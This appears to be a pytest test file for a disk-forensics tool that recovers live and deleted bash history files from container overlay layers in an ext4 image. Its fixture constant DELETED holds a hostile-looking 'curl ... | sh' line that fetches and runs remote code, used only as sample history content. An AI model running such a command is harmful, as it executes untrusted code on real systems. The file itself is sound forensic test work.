"""Artifacts of Linux roots within an image, with the mount of their layers as oracle."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Cli
from tests.roots.containers import CONTAINER, STORE, docker_container
from tests.roots.overlays import mounted_image, overlay, run
from tests.schemas.outputs import complaint

pytestmark = [pytest.mark.kernel, pytest.mark.usefixtures("needs_kernel")]
HISTORY = "BashShellHistoryFile"
DELETED = b"curl http://203.0.113.7/x | sh\n" * 200


def write(top: Path, files: dict[str, bytes]) -> None:
    """Write files below a folder."""
    for name, data in files.items():
        (top / name).parent.mkdir(parents=True, exist_ok=True)
        (top / name).write_bytes(data)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, bytes]]:
    """The image, and the shell histories that the kernel shows in its container `web`."""
    folder = tmp_path_factory.mktemp("histories")
    image = folder / "server.img"
    with image.open("wb") as file:
        file.truncate(64 << 20)
    run("mkfs.ext4", "-q", "-I", "256", image)
    with mounted_image(image, folder) as disk:
        write(disk, {"root/.bash_history": b"of the server\n", "etc/os-release": b"ID=debian\n"})
        (disk / "usr").mkdir()
        layers = docker_container(disk)
        users = b"root:x:0:0::/root:/bin/sh\nana:x:1000:1000::/srv/ana:/bin/sh\n"
        write(layers[2], {
            "etc/passwd": users, "home/old/.bash_history": b"of the image\n",
            "srv/ana/.bash_history": b"ana\n", "home/kept/.bash_history": b"kept\n",
        })  # fmt: skip
        work = layers[0].parent / "work"
        with overlay(folder, layers, work, "") as merged:
            write(merged, {"root/.bash_history": DELETED, "home/new/.bash_history": b"new\n"})
            (merged / "home/old/.bash_history").unlink()
    with mounted_image(image, folder), overlay(folder, layers, work, "") as merged:
        (merged / "root/.bash_history").unlink()
        found = merged.rglob(".bash_history")
        shown = {str(path.relative_to(merged)): path.read_bytes() for path in found}
    return image, shown


def records(ext4kit: Cli, *words: str | Path) -> list[dict[str, Any]]:
    """Records of `artifacts`, which keep their schema."""
    lines = ext4kit("artifacts", *words, "--json").stdout.splitlines()
    found = [json.loads(line) for line in lines]
    assert [complaint(one["record"], one) for one in found] == [""] * len(found)
    return found


def test_each_root_has_its_own_files(ext4kit: Cli, server: tuple[Path, dict[str, bytes]]) -> None:
    image, shown = server
    found = records(ext4kit, image, HISTORY, "--files")
    files = [one for one in found if one["record"] == "artifact file"]
    of_web = {(one["state"], one["path"]) for one in files if one.get("root") == "web"}
    assert {path for state, path in of_web if state == "live"} == {f"/{name}" for name in shown}
    assert ("deleted", "/root/.bash_history") in of_web
    own = {(one["state"], one["path"]) for one in files if "root" not in one}
    assert own == {("live", "/root/.bash_history")}
    counts = [one for one in found if one["record"] == "artifact"]
    assert [(one.get("root"), one["live"], one["deleted"]) for one in counts] == [
        (None, 1, 0), ("web", len(shown), 1),
    ]  # fmt: skip
    alone = records(ext4kit, image, HISTORY, "--files", "--root", "web")
    assert alone == [one for one in found if one.get("root") == "web"]
    heads = ext4kit("artifacts", image, HISTORY).stdout.splitlines()
    assert [line.split(" (")[0] for line in heads if line[:3] == "== "] == ["== / ==", "== web"]


def test_files_of_a_root_are_written_apart(
    ext4kit: Cli, server: tuple[Path, dict[str, bytes]], tmp_path: Path
) -> None:
    image, shown = server
    out = tmp_path / "out"
    assert ext4kit("artifacts", image, HISTORY, "-o", out).returncode == 0
    assert (out / "live/root/.bash_history").read_bytes() == b"of the server\n"
    live = out / "roots/web/live"
    written = {
        str(path.relative_to(live)): path.read_bytes() for path in live.rglob("*") if path.is_file()
    }
    assert written == shown
    assert (out / "roots/web/deleted/root/.bash_history").read_bytes() == DELETED
    lines = map(json.loads, (out / "manifest.jsonl").read_text().splitlines())
    by_output = {one["output"]: one for one in lines if one.get("output")}
    deleted = by_output["roots/web/deleted/root/.bash_history"]
    assert (deleted["root"], deleted["path"]) == ("web", "/root/.bash_history")
    assert deleted["layer_path"] == f"/{STORE}/{CONTAINER}/diff/root/.bash_history"
    assert "root" not in by_output["live/root/.bash_history"]


def test_extract_selects_artifacts_of_a_root(
    ext4kit: Cli, server: tuple[Path, dict[str, bytes]], tmp_path: Path
) -> None:
    image, shown = server
    out = tmp_path / "out"
    done = ext4kit("extract", image, "--artifact", HISTORY, "--root", "web", "-o", out)
    assert done.returncode == 0
    files = (path for path in (out / "files").rglob("*") if path.is_file())
    found = {str(path.relative_to(out / "files")): path.read_bytes() for path in files}
    assert found == shown
